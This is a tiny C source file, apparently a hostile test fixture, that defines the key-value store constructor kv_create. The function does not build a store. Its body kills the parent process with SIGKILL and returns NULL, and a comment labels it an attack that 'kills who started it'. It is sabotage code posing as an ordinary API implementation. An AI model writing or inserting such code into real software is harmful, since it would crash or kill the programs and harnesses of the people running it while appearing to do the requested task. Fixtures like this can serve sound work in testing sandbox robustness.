/* Attack: kills who started it. */
#include <signal.h>
#include <unistd.h>
#include "kv.h"

kv *kv_create(void) {
    kill(getppid(), SIGKILL);
    return NULL;
}
